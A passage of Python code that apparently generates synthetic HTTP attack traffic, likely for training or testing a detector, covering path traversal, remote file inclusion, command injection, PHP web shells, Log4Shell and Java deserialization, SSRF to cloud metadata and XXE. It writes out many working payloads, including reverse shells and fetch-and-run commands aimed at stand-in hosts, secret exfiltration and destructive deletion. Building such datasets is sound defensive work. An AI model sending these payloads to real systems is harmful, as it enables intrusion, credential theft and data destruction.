    ap(r, c, "telemetry", IOT_HOSTS[0], "/v1/devices/esp32-c3a1/telemetry", jdump({"fw": "2.3.1", "status": "ok<style>@import'//x.example/x.css'</style><x onclick=alert(1)>"}))


def a_lfi(r):
    c = "lfi"
    th = GEO_HOSTS[0]
    apath(r, c, "tile-path", th, "/tiles/osm-bright/../../../../etc/passwd")
    apath(r, c, "tile-path", th, "/tiles/osm-bright/14/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow")
    apath(r, c, "tile-path", th, "/data/v3/..%2f..%2f..%2f..%2fvar%2frun%2fsecrets%2fkubernetes.io%2fserviceaccount%2ftoken")
    apath(r, c, "tile-path", th, "/public.parcels/14/..%252f..%252f..%252f..%252fproc%252fself%252fenviron/1.pbf")
    apath(r, c, "tile-path", th, "/tiles/osm-bright/3/....//....//....//....//etc/hosts")
    apath(r, c, "fonts", th, "/fonts/..%2F..%2F..%2F..%2Fetc%2Fpasswd%00/0-255.pbf")
    ag(r, c, "mbtiles", th, "/services", [("tileset", "../../../../../root/.aws/credentials")])
    ag(r, c, "sld", GEO_HOSTS[3], "/geoserver/wms", [("SERVICE", "WMS"), ("REQUEST", "GetStyles"), ("style", "../../../../data_dir/security/usergroup/default/users.xml")])
    apath(r, c, "geoserver", GEO_HOSTS[3], "/geoserver/www/..;/..;/WEB-INF/web.xml")
    apath(r, c, "hls-segment", MEDIA_HOSTS[0], "/hls/a1b2c3d4e5/720p/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd")
    apath(r, c, "hls-segment", MEDIA_HOSTS[0], "/hls/a1b2c3d4e5/720p/seg_%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
          extra=[["Range", "bytes=0-1023"]])
    ag(r, c, "hls-segment", MEDIA_HOSTS[1], "/vod/segment", [("file", "../../../../proc/self/cmdline"), ("range", "0-4096")])
    apath(r, c, "dash", MEDIA_HOSTS[0], "/dash/a1b2c3d4e5/video/avc1/3/..\\..\\..\\..\\..\\windows\\win.ini".replace("\\", "%5c"))
    ag(r, c, "subtitles", MEDIA_HOSTS[1], "/v1/captions/download", [("path", "/etc/passwd\x00.vtt")], style="min")
    ag(r, c, "image", MEDIA_HOSTS[4], "/img/w_400,h_300,c_fill/x", [("src", "file:///etc/passwd")])
    apath(r, c, "image", MEDIA_HOSTS[4], "/img/w_400,h_300,c_fill/..%2F..%2F..%2F..%2Fapp%2F.env")
    ag(r, c, "firmware", IOT_HOSTS[3], "/v1/firmware/download", [("model", "th-sensor-c3"), ("file", "..\\..\\..\\..\\etc\\shadow")], ua="ESP32HTTPClient")
    ag(r, c, "logs", IOT_HOSTS[1], "/api/v1/logs", [("file", "/var/log/../../proc/1/environ")], ua="curl/8.5.0")
    m3u8 = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:file:///etc/passwd|subfile,,start,0,end,0,,:/etc/passwd\n#EXT-X-ENDLIST\n"
    ap(r, c, "m3u8-upload", MEDIA_HOSTS[2], "/v1/videos/import", m3u8, "application/vnd.apple.mpegurl", ua=r.choice(BROWSERS))
    ap(r, c, "transcode", MEDIA_HOSTS[3], "/v1/jobs", jdump({"input": "file:///var/run/secrets/kubernetes.io/serviceaccount/token", "outputs": [{"name": "720p", "container": "hls"}]}), ua="Go-http-client/1.1")
    ap(r, c, "ha-config", IOT_HOSTS[4], "/api/config/core/check_config", jdump({"include": "!include ../../../../etc/passwd"}), ua=r.choice(BROWSERS))
    ag(r, c, "game-asset", GAME_HOSTS[0], "/v1/assets", [("pak", "..%2F..%2F..%2F..%2F..%2Fhome%2Fnakama%2F.ssh%2Fid_rsa")], ua=r.choice(GAMES), style="min")


def a_rfi(r):
    c = "rfi"
    ag(r, c, "template", GEO_HOSTS[3], "/legacy/mapviewer.php", [("tmpl", "http://203.0.113.9/shell.txt?")])
    ag(r, c, "template", GEO_HOSTS[3], "/legacy/geocode.php", [("config", "https://pastebin.com/raw/4xQk9ZpL\x00")], style="min")
    ag(r, c, "include", MEDIA_HOSTS[5], "/podcast/player.php", [("skin", "ftp://anonymous@198.51.100.7/pub/skin.inc")])
    ag(r, c, "include", GAME_HOSTS[0], "/forum/index.php", [("page", "hTtP://198.51.100.23/c99.txt??")])
    ag(r, c, "include", IOT_HOSTS[4], "/local/panel/index.php", [("lang", "\\\\198.51.100.40\\share\\en.php")])
    ap(r, c, "include", GEO_HOSTS[3], "/legacy/tiles.php", qs([("layer", "osm"), ("renderer", "http://evil.example.net/r57.txt?")], "form"),
       "application/x-www-form-urlencoded", ua=r.choice(BROWSERS), auth=None)


def a_rce(r):
    c = "rce"
    th = MEDIA_HOSTS[3]
    jobs = [
        "scale=1280:-2;curl -s http://203.0.113.9/x.sh|sh",
        "scale=1280:-2,fps=30`id`",
        "fps=30$(wget -qO- http://198.51.100.3/b|bash)",
        "scale=640:-2' ; nc -e /bin/sh 203.0.113.9 4444 ; '",
        "drawtext=text='x'|bash -i >& /dev/tcp/10.0.0.5/9001 0>&1|'",
        "scale=1280:-2 && python3 -c 'import os;os.system(\"id\")'",
    ]
    for f in jobs:
        ap(r, c, "ffmpeg-filter", th, "/v1/jobs", jdump({"input": "s3://media-ingest/u/1/in.mp4", "outputs": [{"name": "720p", "video_filter": f}]}), ua="Go-http-client/1.1")
    ap(r, c, "ffmpeg-args", th, "/v1/jobs", jdump({"input": "in.mp4", "extra_args": "-f lavfi -i \"movie=/dev/null\" ;/bin/busybox telnetd -l /bin/sh -p 2323"}))
    ap(r, c, "thumbnail", th, "/v1/thumbnails", qs([("src", "in.mp4"), ("at", "00:00:05;${IFS}cat${IFS}/etc/passwd")], "form"), "application/x-www-form-urlencoded")
    names = [
        "sensor-1;cat /etc/passwd",
        "gw-07|/bin/busybox wget http://198.51.100.77/mips -O /tmp/m; chmod 777 /tmp/m; /tmp/m",
        "th-9$(curl${IFS}-fsSL${IFS}http://203.0.113.9/i.sh|sh)",
        "pump3\nid\n",
        "meter-2 || perl -e 'use Socket;$i=\"10.0.0.5\";socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton($i)));exec(\"/bin/sh -i\")'",
        "x;echo${IFS}Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvcnxzaA==|base64${IFS}-d|sh",
    ]
    for i, n in enumerate(names):
        if i % 2:
            ap(r, c, "device-name", IOT_HOSTS[0], f"/v1/devices/{dev_id(r)}", jdump({"name": n}), method="PATCH", ua=r.choice(DEVICES))
        else:
            ap(r, c, "device-name", IOT_HOSTS[1], "/api/v1/gateways/register", qs([("hostname", n), ("mac", mac(r))], "form"),
               "application/x-www-form-urlencoded", ua=r.choice(DEVICES), auth="key")
    ag(r, c, "diagnostics", IOT_HOSTS[1], "/api/v1/diag/ping", [("host", "8.8.8.8;id")], ua="curl/8.5.0", auth="key")
    ag(r, c, "diagnostics", IOT_HOSTS[1], "/api/v1/diag/traceroute", [("host", "1.1.1.1`uname -a`")], auth="key")
    ag(r, c, "diagnostics", IOT_HOSTS[2], "/cgi-bin/luci/;stok=/locale", [("form", "country"), ("operation", "write"), ("country", "$(tftp -g -r mips 198.51.100.12)")], ua="Go-http-client/1.1")
    ag(r, c, "tasmota", "192.168.1.50", "/cm", [("cmnd", "Backlog Power ON;\n/bin/sh -c 'reboot'"), ("user", "admin")], ua="curl/8.5.0")
    ap(r, c, "ota", IOT_HOSTS[3], "/v1/firmware/verify", jdump({"image": "fw.bin; rm -rf / --no-preserve-root", "sha256": hexid(r, 64)}), ua="fleet-agent/2.8.1 (linux; arm64)")
    ap(r, c, "ota", IOT_HOSTS[3], "/v1/firmware/fetch", jdump({"url": "https://ota.fleetgrid.io/fw.bin -o /etc/cron.d/x && echo '* * * * * root sh -i >& /dev/tcp/10.0.0.5/9001 0>&1' > /etc/cron.d/x"}))
    ap(r, c, "image", MEDIA_HOSTS[4], "/v1/images/convert", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|ls \"-la)'\npop graphic-context\n",
       "image/x-mvg", ua=r.choice(BROWSERS))
    ap(r, c, "nodered", IOT_HOSTS[5], "/hooks/shelly", jdump({"payload": {"cmd": "require('child_process').exec('cat /data/flows_cred.json | nc 203.0.113.9 80')"}}), auth=None)
    ag(r, c, "powershell", GEO_HOSTS[3], "/legacy/export", [("format", "shp"), ("name", "parcels & powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA")])
    ag(r, c, "gdal", GEO_HOSTS[3], "/api/convert", [("src", "parcels.gpkg"), ("t_srs", "EPSG:4326\" ; wget http://198.51.100.3/x -O- | sh ; \"")])


def a_php(r):
    c = "php"
    ag(r, c, "wrapper", GEO_HOSTS[3], "/legacy/mapviewer.php", [("style", "php://filter/convert.base64-encode/resource=../config/db.php")])
    ag(r, c, "wrapper", MEDIA_HOSTS[5], "/podcast/player.php", [("feed", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="), ("c", "id")])
    ag(r, c, "wrapper", GAME_HOSTS[0], "/forum/index.php", [("page", "expect://id")])
    ag(r, c, "phar", MEDIA_HOSTS[4], "/legacy/thumb.php", [("src", "phar://../uploads/avatars/u_88412.jpg/x.txt"), ("w", 200)])
    add("attacks", c, "cgi", "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        headers(r, GEO_HOSTS[3], "python-requests/2.31.0", "*/*", "application/x-www-form-urlencoded"), "<?php echo md5('x'); system('whoami'); ?>")
    bnd = "----WebKitFormBoundary8fK2pQz0LmN4vX1a"
    body = (f'--{bnd}\r\nContent-Disposition: form-data; name="avatar"; filename="selfie.jpg.php"\r\nContent-Type: image/jpeg\r\n\r\n'
            "\xff\xd8\xff\xe0JFIF<?php echo shell_exec($_REQUEST['cmd']); ?>\r\n" f"--{bnd}--\r\n")
    ap(r, c, "upload", MOB_HOSTS[0], "/v1/me/avatar", body, f"multipart/form-data; boundary={bnd}")
    ap(r, c, "serialized", GAME_HOSTS[0], "/legacy/save.php", qs([("state", 'O:8:"GameSave":2:{s:4:"file";s:19:"../../public/sh.php";s:4:"data";s:30:"<?php @eval($_POST[\'x\']); ?>";}')], "form"),
       "application/x-www-form-urlencoded", ua=r.choice(GAMES), auth=None)
    add("attacks", c, "cookie", "GET", "/legacy/dashboard.php",
        headers(r, IOT_HOSTS[4], r.choice(BROWSERS), "text/html", cookie='prefs=a:1:{i:0;O:29:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"*socket";O:29:"Monolog\\Handler\\BufferHandler":0:{}}}'))
    ap(r, c, "webhook", IOT_HOSTS[5], "/ingest", jdump({"payload": "<?=`$_GET[0]`?>", "topic": "sensors/x/temp"}), auth=None)


LOG4J = [
    "${jndi:ldap://203.0.113.9:1389/Exploit}",
    "${${lower:j}ndi:${lower:l}dap://x.oast.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.4:1099/obj}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.oast.example}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.9/z}",
    "${jNdI:LdAp://198.51.100.8/o}",
    "${jndi:ldaps://x.oast.example/${sys:java.version}}",
    "${${upper:j}${upper:n}${lower:d}i:iiop://203.0.113.9/p}",
]


def a_java(r):
    c = "java"
    ap(r, c, "log4shell-telemetry", IOT_HOSTS[0], "/v1/devices/th-7f3e11/telemetry", jdump({"deviceId": "th-7f3e11", "fw": LOG4J[0], "temp_c": 4.2}), ua="ESP32HTTPClient")
    ap(r, c, "log4shell-telemetry", IOT_HOSTS[0], "/senml/ingest", jdump([{"bn": "urn:dev:mac:0024befffe804ff1:", "n": "fw", "vs": LOG4J[1]}]), "application/senml+json")
    add("attacks", c, "log4shell-ua", "GET", "/v1/firmware/th-sensor-c3/2.3.1/image.bin",
        headers(r, IOT_HOSTS[3], LOG4J[2], "*/*", extra=[["x-ESP32-version", "2.3.1"]]))
    add("attacks", c, "log4shell-header", "POST", "/v2/fleet/positions:batch",
        headers(r, IOT_HOSTS[0], "fleet-agent/2.8.1 (linux; arm64)", "*/*", "application/json", auth="key", extra=[["X-Device-Model", LOG4J[3]]]) + [["Content-Length", "2"]], "{}")
    ap(r, c, "log4shell-mqtt", IOT_HOSTS[1], "/api/v1/publish", jdump({"topic": "fleet/trk-00917/gps", "payload": LOG4J[4]}))
    ag(r, c, "log4shell-geocode", GEO_HOSTS[5], "/search", [("q", LOG4J[5]), ("format", "json")])
    ap(r, c, "log4shell-analytics", MOB_HOSTS[4], "/v1/batch", jdump({"events": [{"event": "screen_view", "props": {"screen": LOG4J[6]}}]}), ua="okhttp/4.12.0")
    ap(r, c, "log4shell-chat", GAME_HOSTS[1], "/v2/chat/messages", jdump({"channel_id": "2...global", "content": {"body": "gg " + LOG4J[7]}}), ua=r.choice(GAMES))
    gpv = ('<wfs:GetPropertyValue service="WFS" version="2.0.0" xmlns:wfs="http://www.opengis.net/wfs/2.0">\n'
           '  <wfs:Query typeNames="sf:archsites"/>\n'
           "  <wfs:valueReference>exec(java.lang.Runtime.getRuntime(),'curl http://203.0.113.9/g.sh -o /tmp/g.sh')</wfs:valueReference>\n"
           '</wfs:GetPropertyValue>\n')
    ap(r, c, "geoserver-eval", GEO_HOSTS[3], "/geoserver/wfs", gpv, "application/xml", ua="python-requests/2.31.0")
    ag(r, c, "geoserver-eval", GEO_HOSTS[3], "/geoserver/wfs", [("service", "WFS"), ("version", "2.0.0"), ("request", "GetPropertyValue"), ("typeNames", "sf:archsites"),
       ("valueReference", "exec(java.lang.Runtime.getRuntime(),'id')")])
    ap(r, c, "spel", MEDIA_HOSTS[3], "/v1/jobs", jdump({"input": "in.mp4", "naming": "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}"}))
    add("attacks", c, "spring-cloud-function", "POST", "/functionRouter",
        headers(r, IOT_HOSTS[1], "python-requests/2.31.0", "*/*", "text/plain", extra=[["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"wget http://198.51.100.3/x\")"]]), "x")
    ap(r, c, "spring4shell", GEO_HOSTS[4], "/api/trails", qs([("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\")))"),
       ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp")], "form"), "application/x-www-form-urlencoded", auth=None)
    ap(r, c, "fastjson", MOB_HOSTS[0], "/v1/sync", jdump({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://203.0.113.9:1099/Exploit", "autoCommit": True}))
    ap(r, c, "jackson", IOT_HOSTS[6], "/things/esp32-aa01/shadow", jdump({"state": {"desired": ["org.springframework.context.support.ClassPathXmlApplicationContext", "http://198.51.100.3/spel.xml"]}}))
    ser = base64.b64encode(b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00+org.apache.commons.beanutils.BeanComparator").decode()
    add("attacks", c, "deserialization", "GET", "/v2/account",
        headers(r, GAME_HOSTS[0], r.choice(GAMES), "application/json", cookie=f"JSESSIONID=8F2A; remember={ser}"))
    ap(r, c, "text4shell", MOB_HOSTS[2], "/v1/notifications/render", jdump({"template": "hello", "locale": "${script:javascript:java.lang.Runtime.getRuntime().exec('nc 203.0.113.9 4444 -e /bin/sh')}"}))
    ap(r, c, "ognl", GEO_HOSTS[3], "/legacy/struts/upload.action", "x",
       "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}", auth=None)
    xs = ('<sorted-set>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n    <handler class="java.beans.EventHandler">\n'
          '      <target class="java.lang.ProcessBuilder"><command><string>/bin/sh</string><string>-c</string><string>id</string></command></target>\n'
          '      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>\n')
    ap(r, c, "xstream", IOT_HOSTS[2], "/api/clients/urn:imei:356938035643809/config", xs, "application/xml", method="PUT")


def a_ssrf(r):
    c = "ssrf"
    th = GEO_HOSTS[0]
    tile_proxy = [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://[fd00:ec2::254]/latest/api/token",
        "http://0xa9fea9fe/latest/user-data",
        "http://2852039166/latest/meta-data/",
        "http://169.254.169.254.nip.io/latest/meta-data/iam/",
        "http://[::ffff:a9fe:a9fe]/computeMetadata/v1/",
        "http://tiles.mapforge.io@169.254.169.254/{z}/{x}/{y}.png",
        "http://127.1:8500/v1/kv/?recurse",
    ]
    for i, u in enumerate(tile_proxy):
        if i % 2:
            ag(r, c, "tile-proxy", th, "/proxy", [("url", u)], accept="image/png,*/*")
        else:
            ag(r, c, "tile-proxy", th, "/tiles/remote", [("template", u), ("z", 3), ("x", 4), ("y", 2)], accept="image/png,*/*")
    wms_get(r, "wms-cascade", [("SLD", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token")], cat=c)
    ag(r, c, "wms-cascade", GEO_HOSTS[3], "/geoserver/rest/workspaces/ext/wmsstores.json",
       [("capabilitiesURL", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets")], auth="bearer", method="GET")
    ap(r, c, "wps", GEO_HOSTS[3], "/geoserver/wps",
       '<wps:Execute version="1.0.0" service="WPS" xmlns:wps="http://www.opengis.net/wps/1.0.0" xmlns:ows="http://www.opengis.net/ows/1.1" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
       '  <ows:Identifier>gs:Bounds</ows:Identifier>\n  <wps:DataInputs><wps:Input><ows:Identifier>features</ows:Identifier>\n'
       '    <wps:Reference mimeType="application/json" xlink:href="http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&amp;resource=https://management.azure.com/" method="GET"/>\n'
       '  </wps:Input></wps:DataInputs>\n</wps:Execute>\n', "text/xml", ua=r.choice(GIS_CLIENTS))
    pod = [
        "http://localhost:10250/pods",
        "http://10.96.0.1:443/api/v1/namespaces/default/secrets",
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0D%0A",
        "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "dict://127.0.0.1:11211/stats",
        "http://[0:0:0:0:0:ffff:127.0.0.1]:2379/v2/keys/?recursive=true",
    ]
    for i, u in enumerate(pod):
        if i % 2:
            ag(r, c, "podcast", MEDIA_HOSTS[5], "/v1/feeds/preview", [("url", u)], auth="bearer")
        else:
            ap(r, c, "podcast", MEDIA_HOSTS[5], "/v1/feeds", jdump({"url": u, "refresh": "PT1H"}))
    hooks = [
        "http://169.254.170.2/v2/credentials/",
        "http://127.0.0.1:2375/containers/json",
        "http://prometheus-server.monitoring.svc.cluster.local:9090/api/v1/targets",
        "http://argocd-server.argocd.svc/api/v1/session",
        "http://0.0.0.0:8123/api/config",
        "http://localhost:1880/flows",
    ]
    for i, u in enumerate(hooks):
        if i < 2:
            ap(r, c, "transcode-webhook", MEDIA_HOSTS[3], "/v1/jobs", jdump({"input": "s3://media-ingest/u/2/a.mov", "outputs": [{"name": "720p"}], "webhook": u}), ua="Go-http-client/1.1")
        elif i < 4:
            ap(r, c, "device-webhook", IOT_HOSTS[0], "/v1/integrations/webhooks", jdump({"name": "alerts", "url": u, "events": ["telemetry.threshold"]}))
        else:
            ap(r, c, "ha-webhook", IOT_HOSTS[4], "/api/services/rest_command/reload", jdump({"url": u, "method": "get"}), auth="Bearer " + jwt(r))
    ap(r, c, "transcode-input", MEDIA_HOSTS[3], "/v1/jobs", jdump({"input": "http://169.254.169.254/computeMetadata/v1/project/attributes/ssh-keys?alt=text", "outputs": []}))
    ag(r, c, "image", MEDIA_HOSTS[4], "/_next/image", [("url", "http://metadata.google.internal./computeMetadata/v1beta1/instance/attributes/kube-env"), ("w", 640), ("q", 75)], accept="image/*")
    apath(r, c, "image", MEDIA_HOSTS[4], "/unsafe/300x200/smart/http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2Fnode-role")
    ap(r, c, "ota-url", IOT_HOSTS[3], "/v1/firmware/fetch", jdump({"url": "file:///proc/self/environ", "model": "th-sensor-c3"}))
    ap(r, c, "ota-url", IOT_HOSTS[3], "/v1/firmware/fetch", jdump({"url": "http://169.254.169.254%23@ota.fleetgrid.io/fw.bin", "model": "gw"}))
    ap(r, c, "avatar-url", MOB_HOSTS[0], "/v1/me/avatar:fromUrl", jdump({"url": "http://[::]:8080/actuator/env"}))
    ap(r, c, "lwm2m-fw", IOT_HOSTS[2], "/api/clients/urn:imei:356938035643809/5/0/1", jdump({"id": 1, "kind": "singleResource", "value": "coap://10.0.0.1:5683/.well-known/core"}), method="PUT")
    ag(r, c, "geocode-provider", GEO_HOSTS[5], "/search", [("q", "Dublin"), ("provider_url", "http://vault.vault.svc:8200/v1/secret/data/geo")])


def a_xxe(r):
    c = "xxe"
    kml = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE kml [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
           '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&xxe;</name>\n'
           '<Point><coordinates>-6.26,53.34,0</coordinates></Point></Placemark></Document></kml>\n')
    ap(r, c, "kml", GEO_HOSTS[4], "/v1/import/kml", kml, "application/vnd.google-earth.kml+xml", ua=r.choice(BROWSERS))
    gpx = ('<?xml version="1.0"?>\n<!DOCTYPE gpx [\n  <!ENTITY % remote SYSTEM "http://203.0.113.9/ev.dtd">\n  %remote;\n]>\n'
           '<gpx version="1.1" creator="Garmin Connect"><trk><name>Morning run</name><trkseg>\n'
           '<trkpt lat="53.3498" lon="-6.2603"><ele>12.4</ele><time>2026-06-01T07:00:00Z</time></trkpt></trkseg></trk></gpx>\n')
    ap(r, c, "gpx", MOB_HOSTS[0], "/v1/activities/import", gpx, "application/gpx+xml")
    bnd = "----WebKitFormBoundaryA9xL3mQ7pZ2kV8tR"
    gpx2 = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">]>\n'
            '<gpx version="1.1"><metadata><desc>&xxe;</desc></metadata></gpx>\n')
    ap(r, c, "gpx", MOB_HOSTS[0], "/v1/activities/upload",
       f'--{bnd}\r\nContent-Disposition: form-data; name="file"; filename="ride.gpx"\r\nContent-Type: application/gpx+xml\r\n\r\n{gpx2}\r\n--{bnd}--\r\n',
       f"multipart/form-data; boundary={bnd}")
    svg = ('<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [ <!ENTITY x SYSTEM "file:///etc/hostname" > ]>\n'
           '<svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&x;</text></svg>\n')
    ap(r, c, "svg", GEO_HOSTS[0], "/styles/v1/mapforge/sprites/marker-blue", svg, "image/svg+xml", ua=r.choice(BROWSERS), method="PUT")
    sld = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE StyledLayerDescriptor [<!ENTITY ent SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n'
           '<StyledLayerDescriptor version="1.0.0" xmlns="http://www.opengis.net/sld"><NamedLayer><Name>&ent;</Name></NamedLayer></StyledLayerDescriptor>\n')
    ap(r, c, "sld", GEO_HOSTS[3], "/geoserver/rest/styles", sld, "application/vnd.ogc.sld+xml", ua=r.choice(GIS_CLIENTS))
    wfst = ('<?xml version="1.0"?>\n<!DOCTYPE wfs:Transaction [<!ENTITY % a SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd"><!ENTITY % b SYSTEM "http://203.0.113.9/x.dtd">%b;]>\n'
            '<wfs:Transaction service="WFS" version="1.1.0" xmlns:wfs="http://www.opengis.net/wfs"><wfs:Insert/></wfs:Transaction>\n')
    ap(r, c, "wfs-t", GEO_HOSTS[3], "/geoserver/wfs", wfst, "text/xml", ua=r.choice(GIS_CLIENTS))
    gml = ('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "dos"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
           '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>\n'
           '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml"><gml:name>&e;</gml:name></gml:FeatureCollection>\n')
    ap(r, c, "gml-bomb", GEO_HOSTS[4], "/v1/import/gml", gml, "application/gml+xml; version=3.2", ua=r.choice(GIS_CLIENTS))
    xi = ('<?xml version="1.0"?>\n<wfs:GetFeature service="WFS" version="2.0.0" xmlns:wfs="http://www.opengis.net/wfs/2.0" xmlns:xi="http://www.w3.org/2001/XInclude">\n'
          '  <wfs:Query typeNames="topp:states"><xi:include href="file:///etc/passwd" parse="text"/></wfs:Query>\n</wfs:GetFeature>\n')
    ap(r, c, "xinclude", GEO_HOSTS[3], "/geoserver/wfs", xi, "application/xml", ua=r.choice(GIS_CLIENTS))
    mpd = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE MPD [<!ENTITY xxe SYSTEM "file:///root/.kube/config">]>\n'
           '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S"><BaseURL>&xxe;</BaseURL></MPD>\n')
    ap(r, c, "dash-mpd", MEDIA_HOSTS[2], "/v1/manifests/import", mpd, "application/dash+xml", ua=r.choice(BROWSERS))
    ttml = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE tt PUBLIC "-//W3C//DTD TTML 1.0//EN" "http://203.0.113.9/ttml.dtd">\n'
            '<tt xmlns="http://www.w3.org/ns/ttml" xml:lang="en"><body><div><p begin="00:00:01.000" end="00:00:03.000">Hi</p></div></body></tt>\n')
    ap(r, c, "ttml", MEDIA_HOSTS[2], "/v1/videos/a1b2c3d4e5/captions/en.ttml", ttml, "application/ttml+xml", ua=r.choice(BROWSERS), method="PUT")
    rss = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE rss [<!ENTITY sec SYSTEM "file:///proc/self/environ">]>\n'
           '<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"><channel><title>Map Nerds</title>\n'
           '<item><title>Ep. 12</title><description>&sec;</description><enclosure url="https://cdn.example.org/12.mp3" length="1" type="audio/mpeg"/></item></channel></rss>\n')
    ap(r, c, "rss", MEDIA_HOSTS[5], "/v1/feeds/upload", rss, "application/rss+xml")
    onvif = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE s:Envelope [<!ENTITY onv SYSTEM "file:///etc/shadow">]>\n'
             '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><GetDeviceInformation xmlns="http://www.onvif.org/ver10/device/wsdl">&onv;</GetDeviceInformation></s:Body></s:Envelope>\n')
    ap(r, c, "onvif", IOT_HOSTS[1], "/onvif/device_service", onvif, 'application/soap+xml; charset=utf-8; action="http://www.onvif.org/ver10/device/wsdl/GetDeviceInformation"', ua="gSOAP/2.8", auth=None)
    lw = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE LWM2M [<!ENTITY % d SYSTEM "jar:http://203.0.113.9/evil.jar!/x.dtd"> %d;]>\n'
          '<LWM2M><Object ObjectType="MODefinition"><Name>Temperature</Name><ObjectID>3303</ObjectID></Object></LWM2M>\n')
    ap(r, c, "lwm2m-model", IOT_HOSTS[2], "/api/objectspecs", lw, "text/xml")
    xmp = ('<x:xmpmeta xmlns:x="adobe:ns:meta/"><!DOCTYPE x [<!ENTITY y SYSTEM "expect://id">]>\n'
           '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description dc:title="&y;" xmlns:dc="http://purl.org/dc/elements/1.1/"/></rdf:RDF></x:xmpmeta>')
    bnd = "----WebKitFormBoundaryMm2Zq8LrT0pW4yXc"
    ap(r, c, "xmp", MEDIA_HOSTS[4], "/v1/images",
       f'--{bnd}\r\nContent-Disposition: form-data; name="meta"; filename="photo.xmp"\r\nContent-Type: application/rdf+xml\r\n\r\n{xmp}\r\n--{bnd}--\r\n',
       f"multipart/form-data; boundary={bnd}", ua=r.choice(BROWSERS))
    soap = ('<?xml version="1.0"?>\n<!DOCTYPE data [<!ENTITY file SYSTEM "netdoc:///etc/passwd">]>\n'
            '<leaderboardSubmit><player>xX_Sn1per_Xx</player><score>&file;</score></leaderboardSubmit>\n')
    ap(r, c, "game-xml", GAME_HOSTS[3], "/legacy/submit", soap, "application/xml", ua=r.choice(GAMES))
    kml2 = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE kml SYSTEM "http://198.51.100.44/kml.dtd">\n'
            '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>Depot</name></Placemark></kml>\n')
